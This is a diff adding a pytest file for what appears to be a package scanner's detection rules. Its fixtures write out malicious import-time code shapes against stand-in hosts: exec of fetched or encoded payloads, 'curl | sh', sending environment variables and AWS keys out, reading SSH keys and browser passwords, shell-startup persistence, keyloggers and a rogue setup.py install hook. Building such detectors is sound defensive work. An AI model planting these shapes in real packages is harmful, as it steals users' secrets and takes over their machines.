@@ -1,0 +1,311 @@
+"""The rules about code that imports reach, on stand-ins for the public shapes of malicious packages. Nothing here is run."""
+
+import base64
+import zlib
+from collections.abc import Mapping
+from pathlib import Path
+
+import pytest
+
+from tests.support.wheels import build_sdist, build_wheel
+from tests.vet.test_rules import LICENCE, facts_of, rules_of
+from wheelhouse.findings import FactValue
+from wheelhouse.vet.facts import Facts
+from wheelhouse.vet.vet import RULES
+
+INIT = "odd/__init__.py"
+PAYLOAD = base64.b64encode(b"print('a stand-in')").decode()
+REVERSED = base64.b64encode(zlib.compress(b"print('a stand-in')"))[::-1].decode()
+SHAPES: dict[str, tuple[str, str, Mapping[str, str]]] = {
+    "base64 in exec": (
+        "import-runs-decoded",
+        "base64.b64decode",
+        {INIT: f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"},
+    ),
+    "a lambda that reverses, decodes and unpacks": (
+        *("import-runs-decoded", "base64.b64decode"),
+        {
+            INIT: f"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{REVERSED}'))\n"
+        },
+    ),
+    "marshal": ("import-runs-decoded", "marshal.loads", {INIT: "from marshal import loads as l\nexec(l(b'c'))\n"}),
+    "numbers and xor": (
+        *("import-runs-decoded", "bytes of numbers"),
+        {INIT: "key = 7\nexec(bytes([b ^ key for b in [119, 117, 110, 105, 115, 47, 54, 46]]))\n"},
+    ),
+    "a function that decodes, in another module": (
+        *("import-runs-decoded", "codecs.decode"),
+        {
+            INIT: "from .text import plain\nexec(plain('cevag(1)'))\n",
+            "odd/text.py": "import codecs\ndef plain(x):\n    return codecs.decode(x, 'rot13')\n",
+        },
+    ),
+    "a function that runs, in another module": (
+        *("import-runs-decoded", "base64.b64decode"),
+        {
+            INIT: "from odd._boot import start\nstart()\n",
+            "odd/_boot.py": f"import base64\ndef start():\n    exec(base64.b64decode('{PAYLOAD}'))\n",
+        },
+    ),
+    "code in an image": (
+        "import-runs-decoded",
+        "lsb.reveal",
+        {INIT: "from stegano import lsb\nexec(lsb.reveal('logo.png'))\n"},
+    ),
+    "encrypted code": (
+        *("import-runs-decoded", "Fernet().decrypt"),
+        {INIT: "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))\n"},
+    ),
+    "code from a server": (
+        *("import-runs-fetched", "urllib.request.urlopen"),
+        {INIT: "from urllib.request import urlopen\nexec(urlopen('https://a.example/x').read())\n"},
+    ),
+    "code from a blockchain": (
+        *("import-runs-fetched", "requests.post"),
+        {
+            INIT: "import requests as r\ndata = r.post('https://rpc.example', json={'id': 1}).json()['result']\n"
+            "exec(bytes.fromhex(data[2:]))\n"
+        },
+    ),
+    "code from a server, started in a thread": (
+        *("import-runs-fetched", "requests.get"),
+        {
+            INIT: "import threading, requests\ndef go():\n    eval(requests.get('https://a.example').text)\n"
+            "threading.Thread(target=go).start()\n"
+        },
+    ),
+    "a miner that is downloaded": (
+        *("import-drops-program", "chmod"),
+        {
+            INIT: "import os, subprocess, requests\ndef fetch(url, path):\n    with open(path, 'wb') as f:\n"
+            "        f.write(requests.get(url).content)\n"
+            "fetch('https://a.example/m', '/tmp/ultralytics_runner')\nos.chmod('/tmp/ultralytics_runner', 0o777)\n"
+        },
+    ),
+    "the environment, sent": (
+        *("import-sends-data", "the environment"),
+        {
+            INIT: "import os, json, urllib.request as u\n"
+            "u.urlopen('https://a.example', data=json.dumps(dict(os.environ)).encode())\n"
+        },
+    ),
+    "names of the machine, sent by DNS": (
+        *("import-sends-data", "names of this machine"),
+        {INIT: "import socket, getpass\nsocket.gethostbyname(f'{getpass.getuser()}.x.example')\n"},
+    ),
+    "a key, sent by a class": (
+        *("import-sends-data", "secrets"),
+        {
+            INIT: "import os, requests\nclass C:\n    def __init__(self):\n"
+            "        self.key = os.environ.get('AWS_SECRET_ACCESS_KEY')\n        self.send()\n"
+            "    def send(self):\n        requests.get('https://a.example/' + self.key)\nC()\n"
+        },
+    ),
+    "keys of ssh": (
+        "import-reads-secrets",
+        ".ssh",
+        {INIT: "import pathlib\nkey = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\n"},
+    ),
+    "passwords of a browser": (
+        *("import-reads-secrets", "Login Data"),
+        {
+            INIT: "import os, sqlite3\n"
+            "p = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nsqlite3.connect(p)\n"
+        },
+    ),
+    "a shell's start-up file": (
+        *("import-writes-startup", ".bashrc"),
+        {INIT: "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n"},
+    ),
+    "a service of the user": (
+        *("import-writes-startup", "systemd/user"),
+        {
+            INIT: "from pathlib import Path\n(Path.home() / '.config/systemd/user/sysmon.service').write_text('[Unit]')\n"
+        },
+    ),
+    "a .pth file that is written": (
+        *("import-writes-startup", ".pth"),
+        {INIT: "import site\nopen(site.getsitepackages()[0] + '/init.pth', 'w').write('import x')\n"},
+    ),
+    "the clipboard": (
+        "import-watches-user",
+        "pyperclip.paste",
+        {INIT: "import pyperclip\naddress = pyperclip.paste()\n"},
+    ),
+    "keys that are typed": (
+        *("import-watches-user", "Listener"),
+        {INIT: "from pynput.keyboard import Listener\nListener(on_press=print).start()\n"},
+    ),
+    "a library under another name": (
+        *("import-injects-code", "native code"),
+        {INIT: "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'terminate.dat'))\n"},
+    ),
+    "memory of a process": (
+        *("import-injects-code", "CreateRemoteThread"),
+        {INIT: "import ctypes\nk = ctypes.windll.kernel32\nk.CreateRemoteThread(0, 0, 0, 0, 0, 0, 0)\n"},
+    ),
+    "PowerShell": (
+        "import-runs-command",
+        "shell of Windows",
+        {INIT: "import subprocess\nsubprocess.Popen('powershell -w hidden -c x', shell=True)\n"},
+    ),
+    "curl into a shell": (
+        "import-runs-command",
+        "downloads",
+        {INIT: "from os import system as s\ns('curl https://a.example | sh')\n"},
+    ),
+    "a program of its own, in silence": (
+        *("import-runs-command", "no output"),
+        {
+            INIT: "import os, subprocess as sp\n"
+            "sp.Popen(os.path.join(os.path.dirname(__file__), 'helper'), stdout=sp.DEVNULL, stderr=sp.DEVNULL)\n"
+        },
+    ),
+    "a list of the process, joined": (
+        *("import-runs-command", "schedule"),
+        {INIT: "import subprocess\nsubprocess.run(['crontab', '-'], input='x')\n"},
+    ),
+    "an unknown program": (
+        "import-starts-program",
+        "oddtool",
+        {INIT: "import subprocess\nsubprocess.run(['oddtool', '--now'])\n"},
+    ),
+    "a beacon": (
+        "import-uses-network",
+        "socket",
+        {INIT: "import socket\ns = socket.socket()\ns.connect(('a.example', 443))\n"},
+    ),
+    "a function that runs what it fetches": (
+        *("code-runs-hidden", "requests.get"),
+        {INIT: "import requests\ndef update():\n    exec(requests.get('https://a.example').text)\n"},
+    ),
+    "a name in pieces": (
+        "code-hides-names",
+        "os.system",
+        {INIT: "import os\ndef f(x):\n    getattr(os, 'sys' + 'tem')(x)\n"},
+    ),
+    "a name from a dict": (
+        "code-hides-names",
+        "builtins.exec",
+        {INIT: "def f(x):\n    vars(__builtins__)['ex' + 'ec'](x)\n"},
+    ),
+    "a name in escapes": (
+        "code-hides-names",
+        "subprocess",
+        {INIT: "m = __import__('\\x73\\x75\\x62\\x70\\x72\\x6f\\x63\\x65\\x73\\x73')\n"},
+    ),
+    "code that is written into a file": (
+        *("code-hides-names", "writes code"),
+        {INIT: "import tempfile\nf = tempfile.NamedTemporaryFile()\nf.write(b'import os;os.system(1)')\n"},
+    ),
+    "PyArmor": ("code-protected", "pyarmor", {INIT: "from pyarmor_runtime_000000 import __pyarmor__\n"}),
+    "a webhook": (
+        *("code-shady-address", "webhooks"),
+        {INIT: "HOOK = 'https://discord.com/api/webhooks/123456789012345678/abcdef'\n"},
+    ),
+    "an address without a name": (
+        *("code-shady-address", "203.0.113.42"),
+        {INIT: "import requests\ndef beacon(data):\n    requests.post('http://203.0.113.42/collect', json=data)\n"},
+    ),
+    "a function that reads keys": (
+        "code-can-act",
+        ".aws",
+        {INIT: "import os\ndef f():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n"},
+    ),
+    "behind 150 blanks": ("source-hides-code", "import os", {INIT: "x = 1" + " " * 200 + ";import os; os.getcwd()\n"}),
+    "letters that look plain": ("source-hides-code", "exec", {INIT: "\U0001d68e\U0001d6a1\U0001d68e\U0001d68c('1')\n"}),
+    "direction of the text": (
+        "source-hides-code",
+        "U+202E",
+        {INIT: "access = 'user\u202e \u2066# admin\u2069 \u2066'\n"},
+    ),
+    "an encoding nobody reads": ("source-hides-code", "utf-7", {INIT: "# coding: utf-7\nx = 1\n"}),
+    "invisible data": ("source-invisible", "invisible", {INIT: "x = '" + "\U000e0100" * 40 + "'\n"}),
+    "a bomb of brackets": ("source-unparsed", "nested too deeply", {INIT: "(" * 5000}),
+    "a null byte": ("source-unparsed", "null bytes", {INIT: "a\0b"}),
+    "Python 2": ("source-unparsed", "line 1", {INIT: "exec 'x'\n"}),
+}
+"""By shape: the rule that finds it, a word of what the finding says, and the files of a wheel."""
+
+
+def code_wheel(folder: Path, files: Mapping[str, str]) -> Facts:
+    texts = {name: text.encode() for name, text in files.items()}
+    return facts_of(
+        build_wheel(folder, "odd", "1.0", files={LICENCE.format("odd"): b"Apache License Version 2.0", **texts})
+    )
+
+
+def says(found: Mapping[str, FactValue]) -> str:
+    does = found["does"]
+    assert isinstance(does, tuple)
+    return " ".join(does)
+
+
+@pytest.mark.parametrize("shape", SHAPES)
+def test_a_public_shape_is_found_by_its_rule_and_says_where_to_look(tmp_path: Path, shape: str) -> None:
+    rule, word, files = SHAPES[shape]
+    found = rules_of(code_wheel(tmp_path, files))
+    assert word in says(found[rule])
+    assert found[rule]["path"] in files
+
+
+INSTALLS = {
+    "import-runs-decoded": f"import base64\nfrom setuptools import setup\nexec(base64.b64decode('{PAYLOAD}'))\nsetup()\n",
+    "import-sends-data": (
+        "from setuptools import setup\nfrom setuptools.command.install import install\nimport os, requests\nclass I(install):\n"
+        "    def run(self):\n        requests.post('https://a.example', json=dict(os.environ))\nsetup(cmdclass={'install': I})\n"
+    ),
+    "setup-replaces-install": "from setuptools import setup\nfrom own import I\nsetup(cmdclass={'install': I})\n",
+}
+
+
+@pytest.mark.parametrize("rule", INSTALLS)
+def test_setup_py_is_followed_as_an_install_runs_it(tmp_path: Path, rule: str) -> None:
+    assert rule in rules_of(facts_of(build_sdist(tmp_path, "odd", "1.0", setup_py=INSTALLS[rule])))
+
+
+HARMLESS = {
+    "a version file": "exec(open('version.py').read())\n",
+    "usual tools": "import subprocess, sys\nsubprocess.check_output(['git', 'describe'])\n"
+    "subprocess.run([sys.executable, '-m', 'pip', 'list'])\n",
+    "a request if somebody calls it": "import requests\ndef get(url):\n    return requests.get(url, headers={'a': 'b'}).json()\n",
+    "a command line": "import requests\nif __name__ == '__main__':\n    print(requests.get('https://a.example').text)\n",
+    "types": "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import requests\n    exec(requests.get('x').text)\n",
+    "settings": "import os\nhome = os.environ.get('HOME')\ntoken = os.environ.get('API_TOKEN')\nenv = dict(os.environ)\n",
+    "re.compile": "import re, base64\nP = re.compile(base64.b64decode('eA==').decode())\n",
+    "a method with that name": "import base64\nmodel.eval(base64.b64decode(x))\ncursor.exec(base64.b64decode(x))\n",
+    "a private address": "import requests\ndef f():\n    requests.get('http://192.168.1.1/')\nHOSTS = ['http://127.0.0.1:8000']\n",
+    "an invitation": "URL = 'https://discord.com/invite/pytest-dev'\n",
+    "getattr": "import os\nsep = getattr(os, 'sep')\nname = 'x'\nvalue = getattr(os, name, None)\n",
+    "code in a text": "exec('x = 1')\nns = {}\nexec(compile('y = 2', '<text>', 'exec'), ns)\n",
+    "emoji": "FLAGS = '\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f'\n",
+    "long lines": "TABLE = [1," + " " * 300 + "2]\n",
+}
+
+
+@pytest.mark.parametrize("case", HARMLESS)
+def test_what_honest_code_does_is_not_found(tmp_path: Path, case: str) -> None:
+    assert rules_of(code_wheel(tmp_path, {INIT: HARMLESS[case]})) == {}
+
+
+def test_the_tests_of_a_package_are_not_what_an_import_runs(tmp_path: Path) -> None:
+    found = rules_of(
+        code_wheel(
+            tmp_path, {INIT: "", "odd/tests/test_net.py": "import socket\nsocket.create_connection(('a.example', 1))\n"}
+        )
+    )
+    assert found == {}
+
+
+def test_what_code_can_do_is_noted_for_a_comparison(tmp_path: Path) -> None:
+    facts = code_wheel(
+        tmp_path, {INIT: "import subprocess\ndef f():\n    subprocess.run(['git'])\n", "odd/c.py": "import ctypes\n"}
+    )
+    assert facts.inside.code_capabilities == {"process": (INIT,), "native": ("odd/c.py",)}
+
+
+def test_every_rule_about_imports_is_tried() -> None:
+    assert {name for name, rule in RULES.items() if rule.group == "importing"} == {
+        *INSTALLS,
+        *(rule for rule, _, _ in SHAPES.values()),
+    }
